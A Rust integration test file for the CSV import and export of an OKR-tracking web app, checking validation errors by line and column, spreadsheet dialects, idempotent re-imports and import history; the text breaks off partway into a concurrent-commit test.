//! CSV import and export over real HTTP, on SQLite and PostgreSQL: every
//! kind of bad row named by line and column with nothing written, the
//! dialects spreadsheets save, re-importing a file changing nothing, commits
//! sent at once importing each row once, a quarter exported and imported into
//! a fresh database and exported again byte for byte, who may import what,
//! the size and row limits, and the real server killed (SIGKILL) in the
//! middle of a 50,000-row commit.

use crate::common;
use crate::common::process::{Process, at};
use crate::common::report;
use app::server::transfer::uploads::LEASE;

use std::time::{Duration, Instant};

use app::model::{Dashboard, ImportCounts, ImportPreview, ImportProblem, ImportState};
use app::server::tokens;
use app::server::transfer::table::{MAX_BYTES, MAX_ROWS};
use common::{
    CONVERSION, DEMO_PASSWORD, EMILY, JAMES, LISA, MIKE, SARAH, TestServer, World, free_port,
    location, no_redirects, status_and_json,
};
use domain::{Direction, Role, Unit};
use entity::{check_in, import_record, key_result, objective, quarter};
use migration::testing::{Backend, TestDb};
use reqwest::StatusCode;
use reqwest::header::{ACCEPT, CONTENT_TYPE, COOKIE, ORIGIN};
use sea_orm::prelude::{Decimal, Uuid};
use sea_orm::{
    ActiveModelTrait, ColumnTrait, DatabaseConnection, EntityTrait, IntoActiveModel,
    PaginatorTrait, QueryFilter, QueryOrder, Set,
};
use serde_json::Value;

// ---------------------------------------------------------------------------
// Helpers.
// ---------------------------------------------------------------------------

pub(crate) const Q1: &str = "2025-Q1";
pub(crate) const CORPORATE: &str = "Corporate Sales";
pub(crate) const DIRECT: &str = "Direct Channel Sales";
/// An objective of the demo seed (Direct Channel Sales, owned by Sarah)
/// holding `CONVERSION`.
pub(crate) const DIRECT_REVENUE: &str = "Grow Direct Channel Revenue";

pub(crate) const OKR_HEADER: &str =
    "quarter,team,objective,objective_owner_email,key_result,owner_email,unit,start,target";
const CHECK_IN_HEADER: &str =
    "quarter,team,objective,key_result,date,value,confidence,note,author_email";

/// A row of a new key result of Corporate Sales in 2025-Q1.
const NEW_OKR: [&str; 9] = [
    Q1,
    CORPORATE,
    "Win the Nordics",
    EMILY,
    "Sign 5 Nordic accounts",
    LISA,
    "#",
    "0",
    "5",
];

/// A check-in of a key result of the demo seed.
const NEW_CHECK_IN: [&str; 9] = [
    Q1,
    DIRECT,
    DIRECT_REVENUE,
    CONVERSION,
    "2025-02-03",
    "3.1",
    "green",
    "Steady",
    MIKE,
];

/// One CSV line of `fields`, quoted where they need it.
pub(crate) fn line(fields: &[&str]) -> String {
    fields
        .iter()
        .map(|field| {
            if field.contains([',', '"', '\n', '\r']) {
                format!("\"{}\"", field.replace('"', "\"\""))
            } else {
                (*field).to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// A file of `header` and `rows`, LF line ends.
pub(crate) fn file(header: &str, rows: &[Vec<&str>]) -> Vec<u8> {
    let mut text = format!("{header}\n");
    for row in rows {
        text.push_str(&line(row));
        text.push('\n');
    }
    text.into_bytes()
}

/// `row` with field `index` set to `value`.
fn with(row: &[&'static str], index: usize, value: &'static str) -> Vec<&'static str> {
    let mut row = row.to_vec();
    row[index] = value;
    row
}

/// An OKR file of `rows` new key results in 2025-Q1, 100 to an objective,
/// all of Corporate Sales and owned by Emily.
fn bulk_okrs(rows: usize) -> Vec<u8> {
    let mut text = String::with_capacity(rows * 110);
    text.push_str(OKR_HEADER);
    text.push('\n');
    for index in 0..rows {
        text.push_str(&format!(
            "{Q1},{CORPORATE},Bulk objective {:03},{EMILY},Bulk key result {index:05},{EMILY},#,0,100\n",
            index / 100
        ));
    }
    text.into_bytes()
}

/// `POST /import/upload` as the import form sends it. The upload's id when
/// it is kept (303 to `/import/<id>`); else the status and where it was
/// sent (or the body).
pub(crate) async fn upload(
    server: &TestServer,
    cookie: Option<&str>,
    kind: &str,
    filename: &str,
    bytes: Vec<u8>,
) -> Result<Uuid, (StatusCode, String)> {
    upload_with(server, cookie, kind, filename, bytes, None).await
}

async fn upload_with(
    server: &TestServer,
    cookie: Option<&str>,
    kind: &str,
    filename: &str,
    bytes: Vec<u8>,
    origin: Option<&str>,
) -> Result<Uuid, (StatusCode, String)> {
    let part = reqwest::multipart::Part::bytes(bytes)
        .file_name(filename.to_owned())
        .mime_str("text/csv")
        .expect("a MIME type");
    let form = reqwest::multipart::Form::new()
        .text("kind", kind.to_owned())
        .part("file", part);
    let mut request = no_redirects()
        .post(server.url("/import/upload"))
        .timeout(Duration::from_secs(120))
        .multipart(form);
    if let Some(cookie) = cookie {
        request = request.header(COOKIE, cookie);
    }
    if let Some(origin) = origin {
        request = request.header(ORIGIN, origin);
    }
    let response = request
        .send()
        .await
        .unwrap_or_else(|error| panic!("upload {filename}: {error}"));
    let status = response.status();
    let to = location(&response);
    if status == StatusCode::SEE_OTHER
        && let Some(id) = to
            .strip_prefix("/import/")
            .and_then(|id| Uuid::parse_str(id).ok())
    {
        return Ok(id);
    }
    let said = if to.is_empty() {
        response.text().await.unwrap_or_default()
    } else {
        to
    };
    Err((status, said))
}

/// `GET /api/<path>` as a fetch, with `cookie` if any.
async fn api_get(server: &TestServer, cookie: Option<&str>, path: &str) -> (StatusCode, Value) {
    let mut request = no_redirects()
        .get(server.url(&format!("/api/{path}")))
        .timeout(Duration::from_secs(120))
        .header(ACCEPT, "application/json");
    if let Some(cookie) = cookie {
        request = request.header(COOKIE, cookie);
    }
    let response = request
        .send()
        .await
        .unwrap_or_else(|error| panic!("GET {path}: {error}"));
    status_and_json(response).await
}

/// The preview of upload `id`, which must be answered.
pub(crate) async fn preview(server: &TestServer, cookie: &str, id: Uuid) -> ImportPreview {
    let (status, body) = api_get(server, Some(cookie), &format!("import_preview?id={id}")).await;
    assert_eq!(status, StatusCode::OK, "preview of {id}: {body}");
    serde_json::from_value(body.clone()).unwrap_or_else(|error| panic!("{error}: {body}"))
}

/// `POST /api/commit_import` as a fetch.
pub(crate) async fn post_commit(
    server: &TestServer,
    cookie: Option<&str>,
    id: Uuid,
) -> (StatusCode, Value) {
    let id = id.to_string();
    status_and_json(
        server
            .post("/api/commit_import", cookie, &[("id", id.as_str())])
            .await,
    )
    .await
}

/// Commits upload `id` and follows its preview until it is committed or
/// failed: that state.
pub(crate) async fn commit(server: &TestServer, cookie: &str, id: Uuid) -> ImportState {
    let (status, body) = post_commit(server, Some(cookie), id).await;
    assert_eq!(status, StatusCode::OK, "commit {id}: {body}");
    let started = Instant::now();
    loop {
        let state = preview(server, cookie, id).await.state;
        if matches!(
            state,
            ImportState::Committed { .. } | ImportState::Failed { .. }
        ) {
            return state;
        }
        assert!(
            started.elapsed() < Duration::from_secs(300),
            "commit of {id} still {state:?} after 300 s"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Every row an import may write.
#[derive(Debug, PartialEq)]
pub(crate) struct Snapshot {
    quarters: Vec<quarter::Model>,
    objectives: Vec<objective::Model>,
    key_results: Vec<key_result::Model>,
    check_ins: Vec<check_in::Model>,
    imports: Vec<import_record::Model>,
}

impl Snapshot {
    /// The OKR rows, the import records aside.
    pub(crate) fn okrs(&self) -> Snapshot {
        Snapshot {
            quarters: self.quarters.clone(),
            objectives: self.objectives.clone(),
            key_results: self.key_results.clone(),
            check_ins: self.check_ins.clone(),
            imports: vec![],
        }
    }
}

pub(crate) async fn snapshot(db: &DatabaseConnection) -> Snapshot {
    Snapshot {
        quarters: quarter::Entity::find()
            .order_by_asc(quarter::Column::Id)
            .all(db)
            .await
            .expect("quarters"),
        objectives: objective::Entity::find()
            .order_by_asc(objective::Column::Id)
            .all(db)
            .await
            .expect("objectives"),
        key_results: key_result::Entity::find()
            .order_by_asc(key_result::Column::Id)
            .all(db)
            .await
            .expect("key results"),
        check_ins: check_in::Entity::find()
            .order_by_asc(check_in::Column::Id)
            .all(db)
            .await
            .expect("check-ins"),
        imports: import_record::Entity::find()
            .order_by_asc(import_record::Column::CreatedAt)
            .all(db)
            .await
            .expect("import records"),
    }
}

async fn key_result_named(db: &DatabaseConnection, title: &str) -> key_result::Model {
    key_result::Entity::find()
        .filter(key_result::Column::Title.eq(title))
        .one(db)
        .await
        .expect("query key results")
        .unwrap_or_else(|| panic!("no key result {title:?}"))
}

pub(crate) fn counts(created: u64, updated: u64, unchanged: u64) -> ImportCounts {
    ImportCounts {
        created,
        updated,
        unchanged,
    }
}

fn decimal(text: &str) -> Decimal {
    text.parse().expect("a decimal")
}

/// `GET /quarters/<label>/export/<what>`: status, content type and body.
pub(crate) async fn export(
    server: &TestServer,
    cookie: Option<&str>,
    label: &str,
    what: &str,
) -> (StatusCode, String, Vec<u8>) {
    let mut request = no_redirects().get(server.url(&format!("/quarters/{label}/export/{what}")));
    if let Some(cookie) = cookie {
        request = request.header(COOKIE, cookie);
    }
    let response = request.send().await.expect("an export");
    let status = response.status();
    let content_type = response
        .headers()
        .get(CONTENT_TYPE)
        .and_then(|value| value.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let body = response.bytes().await.expect("its body").to_vec();
    (status, content_type, body)
}

/// An export that must succeed: its CSV.
async fn exported(server: &TestServer, cookie: &str, what: &str) -> Vec<u8> {
    let (status, content_type, body) = export(server, Some(cookie), Q1, what).await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    body
}

// ---------------------------------------------------------------------------
// 1. Bad rows: each named by line and column, and nothing written.
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum Who {
    Emily,
    Sarah,
}

struct BadFile {
    what: &'static str,
    who: Who,
    kind: &'static str,
    bytes: Vec<u8>,
    /// The one problem expected: line, column and part of its message.
    line: u64,
    column: &'static str,
    says: &'static str,
}

fn bad_files() -> Vec<BadFile> {
    let okrs = |bad: Vec<&str>| file(OKR_HEADER, &[NEW_OKR.to_vec(), bad]);
    let check_ins = |bad: Vec<&str>| file(CHECK_IN_HEADER, &[NEW_CHECK_IN.to_vec(), bad]);
    let bad = |what, who, kind, bytes, line, column, says| BadFile {
        what,
        who,
        kind,
        bytes,
        line,
        column,
        says,
    };
    let other_kr = |row: &[&'static str]| with(row, 4, "Open a Stockholm office");
    let mut not_utf8 = okrs(with(&NEW_OKR, 4, "Open a Caf\u{e9}"));
    // "é" as Latin-1 saves it: one byte, 0xE9.
    let at = not_utf8
        .windows(2)
        .position(|pair| pair == "é".as_bytes())
        .expect("the é");
    not_utf8.splice(at..at + 2, [0xE9]);
    vec![
        bad(
            "unknown team",
            Who::Emily,
            "okrs",
            okrs(other_kr(&with(&NEW_OKR, 1, "Marketing"))),
            3,
            "team",
            "there is no team \"Marketing\"",
        ),
        bad(
            "unknown person",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 5, "nobody@airline.com")),
            3,
            "owner_email",
            "no person has the email \"nobody@airline.com\"",
        ),
        bad(
            "inactive person",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 3, JAMES)),
            3,
            "objective_owner_email",
            "James Rodriguez is no longer active",
        ),
        bad(
            "archived quarter",
            Who::Emily,
            "okrs",
            okrs(with(&NEW_OKR, 0, "2024-Q4")),
            3,
            "quarter",
            "quarter 2024-Q4 is archived",
        ),
        bad(
            "unknown quarter that is not a calendar label",
            Who::Emily,
            "okrs",
            okrs(with(&NEW_OKR, 0, "FY25 Q2")),
            3,
            "quarter",
            "new quarters need a label like 2025-Q3",
        ),
        bad(
            "a calendar quarter a lead may not create",
            Who::Sarah,
            "okrs",
            file(
                OKR_HEADER,
                &[
                    vec![Q1, DIRECT, "Lift the app", SARAH, "Rate 4.8", MIKE, "#", "4.5", "4.8"],
                    vec!["2025-Q3", DIRECT, "Lift the app", SARAH, "Rate 4.8", MIKE, "#", "4.5", "4.8"],
                ],
            ),
            3,
            "quarter",
            "an admin creates it first",
        ),
        bad(
            "start equal to target",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 8, "0.00")),
            3,
            "target",
            "must differ from the start value",
        ),
        bad(
            "a number too large for numeric(15,2)",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 8, "100000000000000")),
            3,
            "target",
            "too large",
        ),
        bad(
            "three decimals, more than numeric(15,2) keeps",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 7, "0.125")),
            3,
            "start",
            "at most 2 decimal places",
        ),
        bad(
            "an ambiguous decimal comma",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 7, "1,234,5")),
            3,
            "start",
            "ambiguous",
        ),
        bad(
            "a unit that is not one",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 6, "kg")),
            3,
            "unit",
            "%, pp, $, #",
        ),
        bad(
            "a title with a line break",
            Who::Emily,
            "okrs",
            okrs(with(&NEW_OKR, 4, "Open a\nStockholm office")),
            3,
            "key_result",
            "control characters",
        ),
        bad(
            "a repeated row",
            Who::Emily,
            "okrs",
            okrs(NEW_OKR.to_vec()),
            3,
            "key_result",
            "repeats the key result of line 2",
        ),
        bad(
            "two owners of one objective",
            Who::Emily,
            "okrs",
            okrs(with(&other_kr(&NEW_OKR), 3, LISA)),
            3,
            "objective_owner_email",
            "differs from an earlier row of the same objective",
        ),
        bad(
            "a current value for a key result with check-ins",
            Who::Emily,
            "okrs",
            format!(
                "{OKR_HEADER},current\n{},\n{}\n",
                line(&NEW_OKR),
                line(&[Q1, DIRECT, DIRECT_REVENUE, SARAH, CONVERSION, MIKE, "%", "2.8", "3.5", "3.3"])
            )
            .into_bytes(),
            3,
            "current",
            "has check-ins, which set its current value (3.01)",
        ),
        bad(
            "a lead importing another team",
            Who::Sarah,
            "okrs",
            file(
                OKR_HEADER,
                &[
                    vec![Q1, DIRECT, "Lift the app", SARAH, "Rate 4.8", MIKE, "#", "4.5", "4.8"],
                    NEW_OKR.to_vec(),
                ],
            ),
            3,
            "team",
            "leads plan only their own team's objectives",
        ),
        bad(
            "a missing column",
            Who::Emily,
            "okrs",
            b"quarter,team,objective,objective_owner_email,key_result,owner_email,start,target\n\
              2025-Q1,Corporate Sales,Win the Nordics,emily.davis@airline.com,Sign 5,lisa.wang@airline.com,0,5\n"
                .to_vec(),
            1,
            "unit",
            "is missing from the header row",
        ),
        bad(
            "an unknown column",
            Who::Emily,
            "okrs",
            format!(
                "{OKR_HEADER},colour\n{},blue\n",
                line(&NEW_OKR)
            )
            .into_bytes(),
            1,
            "colour",
            "is not a column",
        ),
        bad(
            "a file that is not UTF-8",
            Who::Emily,
            "okrs",
            not_utf8,
            3,
            "",
            "not UTF-8",
        ),
        bad(
            "a header and no rows",
            Who::Emily,
            "okrs",
            format!("{OKR_HEADER}\r\n").into_bytes(),
            2,
            "",
            "no data",
        ),
        bad(
            "a confidence that is not one",
            Who::Emily,
            "check_ins",
            check_ins(with(&NEW_CHECK_IN, 6, "blue")),
            3,
            "confidence",
            "is not valid; expected one of 0 (Red), 1 (Amber), 2 (Green)",
        ),
        bad(
            "a check-in outside its quarter",
            Who::Emily,
            "check_ins",
            check_ins(with(&NEW_CHECK_IN, 4, "2025-04-15")),
            3,
            "date",
            "must be within 2025-Q1 (Jan 1 – Mar 31, 2025)",
        ),
        bad(
            "a check-in of an unknown person",
            Who::Emily,
            "check_ins",
            check_ins(with(&NEW_CHECK_IN, 8, "nobody@airline.com")),
            3,
            "author_email",
            "no person has the email",
        ),
        bad(
            "a repeated check-in",
            Who::Emily,
            "check_ins",
            check_ins(with(&NEW_CHECK_IN, 7, "Said twice")),
            3,
            "value",
            "repeats the check-in of line 2",
        ),
        bad(
            "a check-in value with an ambiguous comma",
            Who::Emily,
            "check_ins",
            check_ins(with(&with(&NEW_CHECK_IN, 4, "2025-02-10"), 5, "3,1,0")),
            3,
            "value",
            "ambiguous",
        ),
        bad(
            "a lead's check-in of another team",
            Who::Sarah,
            "check_ins",
            // Her own check-in first, then one of Corporate Sales.
            file(
                CHECK_IN_HEADER,
                &[
                    with(&NEW_CHECK_IN, 8, SARAH),
                    with(
                        &with(&with(&NEW_CHECK_IN, 8, SARAH), 1, CORPORATE),
                        2,
                        "Expand Corporate Sales in APAC",
                    ),
                ],
            ),
            3,
            "team",
            "leads plan only their own team's objectives",
        ),
    ]
}

migration::backend_test!(
    every_bad_row_is_named_by_line_and_column_and_nothing_is_written,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        // An archived quarter and a person who left.
        let now = chrono::Utc::now().naive_utc();
        quarter::ActiveModel {
            id: Set(Uuid::new_v4()),
            label: Set("2024-Q4".to_owned()),
            start_at: Set(common::date(2024, 10, 1)),
            end_at: Set(common::date(2024, 12, 31)),
            organization_id: Set(None),
            archived: Set(true),
            notes: Set(None),
            created_at: Set(now),
            updated_at: Set(now),
        }
        .insert(world.db())
        .await
        .expect("an archived quarter");
        let mut james = common::person(world.db(), JAMES).await.into_active_model();
        james.active = Set(false);
        james.update(world.db()).await.expect("deactivate James");

        let before = snapshot(world.db()).await;
        for case in bad_files() {
            let cookie = match case.who {
                Who::Emily => &world.emily,
                Who::Sarah => &world.sarah,
            };
            let id = upload(
                &world.server,
                Some(cookie),
                case.kind,
                "bad.csv",
                case.bytes,
            )
            .await
            .unwrap_or_else(|refused| panic!("{}: upload refused {refused:?}", case.what));
            let shown = preview(&world.server, cookie, id).await;
            assert_eq!(shown.state, ImportState::Preview, "{}", case.what);
            assert_eq!(
                shown.problem_count, 1,
                "{}: {:#?}",
                case.what, shown.problems
            );
            let ImportProblem {
                line,
                column,
                message,
            } = &shown.problems[0];
            assert_eq!(
                (*line, column.as_str()),
                (case.line, case.column),
                "{}: {message}",
                case.what
            );
            assert!(
                message.contains(case.says),
                "{}: {message:?} does not say {:?}",
                case.what,
                case.says
            );
            let (status, body) = post_commit(&world.server, Some(cookie), id).await;
            assert_eq!(
                status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "{}: commit answered {body}",
                case.what
            );
            assert_eq!(body["Validation"]["field"], "file", "{}: {body}", case.what);
            assert_eq!(
                preview(&world.server, cookie, id).await.state,
                ImportState::Preview,
                "{}: a refused commit starts nothing",
                case.what
            );
            assert_eq!(
                snapshot(world.db()).await,
                before,
                "{}: rows changed",
                case.what
            );
        }
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 2. What spreadsheets save.
// ---------------------------------------------------------------------------

migration::backend_test!(
    files_as_spreadsheets_save_them_import,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        // Excel in much of Europe: "CSV UTF-8" with a byte order mark, `;`
        // between fields, CRLF, decimal commas, quotes around a `;`.
        let okrs = "\u{FEFF}Quarter;TEAM;Objective;Objective Owner Email;Key Result;owner_email;unit;start;target;current\r\n\
            2025-Q1;Direct Channel Sales;\"Grow; direct\";sarah.chen@airline.com;Lift the app rating;MIKE.JOHNSON@airline.com;%;2,8;3,5;3,1\r\n";
        let id = upload(
            &world.server,
            Some(&world.sarah),
            "okrs",
            "europe.csv",
            okrs.into(),
        )
        .await
        .expect("an upload");
        let shown = preview(&world.server, &world.sarah, id).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        assert_eq!(shown.summary.records, counts(1, 0, 0));
        assert_eq!(shown.summary.objectives, counts(1, 0, 0));
        assert!(matches!(
            commit(&world.server, &world.sarah, id).await,
            ImportState::Committed { .. }
        ));
        let rating = key_result_named(world.db(), "Lift the app rating").await;
        assert_eq!(
            (
                rating.start_value,
                rating.target_value,
                rating.current_value,
                rating.unit,
                rating.direction
            ),
            (
                decimal("2.8"),
                decimal("3.5"),
                decimal("3.1"),
                Unit::Percent,
                Direction::Up
            )
        );
        let objective = objective::Entity::find_by_id(rating.objective_id)
            .one(world.db())
            .await
            .expect("query")
            .expect("its objective");
        assert_eq!(objective.title, "Grow; direct");
        assert_eq!(rating.owner_id, common::person(world.db(), MIKE).await.id);

        // A check-in whose quoted note holds a `;` and a line break.
        let check_ins = "\u{FEFF}quarter;team;objective;key_result;date;value;confidence;note;author_email\r\n\
            2025-Q1;Direct Channel Sales;\"Grow; direct\";Lift the app rating;2025-02-10;3,25;Green;\"Fewer crashes; better reviews\r\nsecond line\";sarah.chen@airline.com\r\n\
            2025-Q1;Direct Channel Sales;Grow Direct Channel Revenue;Increase direct booking conversion rate from 2.8% to 3.5%;2025-02-10;3,1;1;;sarah.chen@airline.com\r\n";
        let id = upload(
            &world.server,
            Some(&world.sarah),
            "check_ins",
            "notes.csv",
            check_ins.into(),
        )
        .await
        .expect("an upload");
        let shown = preview(&world.server, &world.sarah, id).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        assert_eq!(shown.summary.records, counts(2, 0, 0));
        assert!(matches!(
            commit(&world.server, &world.sarah, id).await,
            ImportState::Committed { .. }
        ));
        let noted = check_in::Entity::find()
            .filter(check_in::Column::KrId.eq(rating.id))
            .one(world.db())
            .await
            .expect("query")
            .expect("the check-in");
        assert_eq!(
            noted.note.as_deref(),
            Some("Fewer crashes; better reviews\nsecond line")
        );
        assert_eq!(noted.value, decimal("3.25"));
        assert_eq!(noted.created_at.date(), common::date(2025, 2, 10));
        assert_eq!(
            key_result_named(world.db(), "Lift the app rating")
                .await
                .current_value,
            decimal("3.25"),
            "the latest check-in sets the current value"
        );
        assert_eq!(
            key_result_named(world.db(), CONVERSION).await.current_value,
            decimal("3.1")
        );

        // Columns in another order, headers in another case, no `current`.
        let shuffled = "TARGET,Start,Unit,Owner_Email,KEY_RESULT,Objective_Owner_Email,OBJECTIVE,Team,Quarter\n\
            \"9,100,000\",\"8,000,000\",$,lisa.wang@airline.com,Win back Hong Kong,lisa.wang@airline.com,Expand Corporate Sales in APAC,corporate sales,2025-Q1\n";
        let id = upload(
            &world.server,
            Some(&world.lisa),
            "okrs",
            "shuffled.csv",
            shuffled.into(),
        )
        .await
        .expect("an upload");
        let shown = preview(&world.server, &world.lisa, id).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        assert_eq!(shown.summary.objectives, counts(0, 0, 1));
        assert_eq!(shown.summary.records, counts(1, 0, 0));
        assert!(matches!(
            commit(&world.server, &world.lisa, id).await,
            ImportState::Committed { .. }
        ));
        let hong_kong = key_result_named(world.db(), "Win back Hong Kong").await;
        assert_eq!(
            (
                hong_kong.start_value,
                hong_kong.target_value,
                hong_kong.current_value,
                hong_kong.unit
            ),
            (
                Decimal::from(8_000_000),
                Decimal::from(9_100_000),
                Decimal::from(8_000_000),
                Unit::Dollars
            ),
            "without `current` a new key result starts at its start"
        );
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 3. The same file twice.
// ---------------------------------------------------------------------------

migration::backend_test!(
    importing_a_file_again_changes_nothing_and_names_the_first_import,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let (server, emily) = (&world.server, world.emily.as_str());

        // The demo quarter exported and imported back: all unchanged.
        for what in ["okrs", "check-ins"] {
            let bytes = exported(server, emily, what).await;
            let kind = if what == "okrs" { "okrs" } else { "check_ins" };
            let before = snapshot(world.db()).await;
            let id = upload(server, Some(emily), kind, "demo.csv", bytes)
                .await
                .expect("an upload");
            let shown = preview(server, emily, id).await;
            assert!(shown.problems.is_empty(), "{what}: {:#?}", shown.problems);
            let records = shown.summary.records;
            assert_eq!(
                (records.created, records.updated),
                (0, 0),
                "{what}: {records:?}"
            );
            assert!(records.unchanged >= 10, "{what}: {records:?}");
            assert_eq!(shown.summary.objectives.created, 0);
            assert_eq!(shown.summary.objectives.updated, 0);
            assert!(matches!(
                commit(server, emily, id).await,
                ImportState::Committed { .. }
            ));
            let after = snapshot(world.db()).await;
            assert_eq!(after.okrs(), before.okrs(), "{what}: rows changed");
            assert_eq!(after.imports.len(), before.imports.len() + 1);
        }

        // A file of new rows, twice.
        let okrs = file(
            OKR_HEADER,
            &[
                NEW_OKR.to_vec(),
                with(&with(&NEW_OKR, 4, "Open a Stockholm office"), 8, "1"),
                vec![
                    Q1,
                    DIRECT,
                    DIRECT_REVENUE,
                    SARAH,
                    CONVERSION,
                    MIKE,
                    "%",
                    "2.8",
                    "3.5",
                ],
            ],
        );
        let first = upload(server, Some(emily), "okrs", "nordics.csv", okrs.clone())
            .await
            .expect("an upload");
        let shown = preview(server, emily, first).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        assert_eq!(shown.identical_to, None);
        assert_eq!(shown.summary.rows, 3);
        assert_eq!(shown.summary.objectives, counts(1, 0, 1));
        assert_eq!(shown.summary.records, counts(2, 0, 1));
        let ImportState::Committed { record_id } = commit(server, emily, first).await else {
            panic!("the first import failed");
        };
        let record = import_record::Entity::find_by_id(record_id)
            .one(world.db())
            .await
            .expect("query")
            .expect("its import record");
        assert_eq!(record.filename, "nordics.csv");
        assert_eq!(record.row_count, 3);
        assert_eq!(
            record.created_by,
            common::person(world.db(), EMILY).await.id
        );
        let metadata = record.metadata.expect("its metadata");
        assert_eq!(metadata["kind"], "okrs");
        assert_eq!(
            metadata["checksum"],
            app::server::transfer::checksum(&okrs).as_str()
        );
        assert_eq!(metadata["delimiter"], ",");
        assert_eq!(metadata["objectives"]["created"], 1);
        assert_eq!(metadata["objectives"]["unchanged"], 1);
        assert_eq!(metadata["records"]["created"], 2);
        assert_eq!(metadata["records"]["unchanged"], 1);
        assert_eq!(metadata["quarters_created"], serde_json::json!([]));
        let columns: Vec<&str> = metadata["columns"]
            .as_array()
            .expect("columns")
            .iter()
            .filter_map(Value::as_str)
            .collect();
        for column in OKR_HEADER.split(',') {
            assert!(columns.contains(&column), "{column} in {columns:?}");
        }

        let before = snapshot(world.db()).await;
        let again = upload(server, Some(emily), "okrs", "nordics (1).csv", okrs.clone())
            .await
            .expect("an upload");
        let shown = preview(server, emily, again).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        let identical = shown.identical_to.expect("the earlier import is named");
        assert!(
            identical.contains("nordics.csv") && identical.contains("Emily Davis"),
            "{identical}"
        );
        assert_eq!(shown.summary.objectives, counts(0, 0, 2));
        assert_eq!(shown.summary.records, counts(0, 0, 3));
        assert!(matches!(
            commit(server, emily, again).await,
            ImportState::Committed { .. }
        ));
        let after = snapshot(world.db()).await;
        assert_eq!(
            after.okrs(),
            before.okrs(),
            "the second import changed rows"
        );
        assert_eq!(after.imports.len(), before.imports.len() + 1);

        // A changed target updates that key result only.
        let changed = file(
            OKR_HEADER,
            &[
                with(&NEW_OKR, 8, "6"),
                with(&with(&NEW_OKR, 4, "Open a Stockholm office"), 8, "1"),
            ],
        );
        let id = upload(server, Some(emily), "okrs", "nordics.csv", changed)
            .await
            .expect("an upload");
        let shown = preview(server, emily, id).await;
        assert_eq!(shown.identical_to, None);
        assert_eq!(shown.summary.records, counts(0, 1, 1));
        assert!(matches!(
            commit(server, emily, id).await,
            ImportState::Committed { .. }
        ));
        let nordic = key_result_named(world.db(), "Sign 5 Nordic accounts").await;
        assert_eq!(nordic.target_value, Decimal::from(6));
        let after_change = snapshot(world.db()).await;
        assert_eq!(
            after_change.key_results.len(),
            after.key_results.len(),
            "no key result added"
        );
        let changed_rows: Vec<&key_result::Model> = after_change
            .key_results
            .iter()
            .filter(|row| !after.key_results.contains(row))
            .collect();
        assert_eq!(changed_rows.len(), 1, "{changed_rows:#?}");

        // Check-ins, twice.
        let check_ins = file(
            CHECK_IN_HEADER,
            &[
                vec![
                    Q1,
                    CORPORATE,
                    "Win the Nordics",
                    "Sign 5 Nordic accounts",
                    "2025-02-03",
                    "1",
                    "green",
                    "First one",
                    LISA,
                ],
                vec![
                    Q1,
                    CORPORATE,
                    "Win the Nordics",
                    "Sign 5 Nordic accounts",
                    "2025-02-10",
                    "2",
                    "amber",
                    "",
                    LISA,
                ],
            ],
        );
        let id = upload(
            server,
            Some(emily),
            "check_ins",
            "weekly.csv",
            check_ins.clone(),
        )
        .await
        .expect("an upload");
        let shown = preview(server, emily, id).await;
        assert_eq!(shown.summary.records, counts(2, 0, 0));
        assert!(matches!(
            commit(server, emily, id).await,
            ImportState::Committed { .. }
        ));
        assert_eq!(
            key_result_named(world.db(), "Sign 5 Nordic accounts")
                .await
                .current_value,
            Decimal::from(2)
        );
        let before = snapshot(world.db()).await;
        let id = upload(server, Some(emily), "check_ins", "weekly.csv", check_ins)
            .await
            .expect("an upload");
        let shown = preview(server, emily, id).await;
        assert!(shown.identical_to.is_some());
        assert_eq!(shown.summary.records, counts(0, 0, 2));
        assert!(matches!(
            commit(server, emily, id).await,
            ImportState::Committed { .. }
        ));
        let after = snapshot(world.db()).await;
        assert_eq!(after.okrs(), before.okrs());
        assert_eq!(after.imports.len(), before.imports.len() + 1);

        // The history lists every import, newest first.
        let (status, history) = api_get(server, Some(emily), "import_history").await;
        assert_eq!(status, StatusCode::OK, "{history}");
        let history = history.as_array().expect("a list");
        assert_eq!(history.len(), after.imports.len());
        assert_eq!(history[0]["filename"], "weekly.csv");
        assert_eq!(history[0]["rows"], 2);
        assert_eq!(
            history[0]["summary"],
            "0 check-ins created, 0 updated, 2 unchanged"
        );
        world.finish().await;
    }
);

/// Waits until every one of `ids` is committed.
async fn all_committed(server: &TestServer, cookie: &str, ids: &[Uuid]) {
    let started = Instant::now();
    for id in ids {
        loop {
            match preview(server, cookie, *id).await.state {
                ImportState::Committed { .. } => break,
                ImportState::Failed { message } => panic!("{id} failed: {message}"),
                _ => {}
            }
            assert!(started.elapsed() < Duration::from_secs(60));
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

migration::backend_test!(
    commits_sent_at_once_import_each_row_once,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let (server, emily) = (&world.server, world.emily.as_str());

        // One upload, its commit sent twice at once (a double click).
        let check_ins = file(
            CHECK_IN_HEADER,
            &[
                NEW_CHECK_IN.to_vec(),
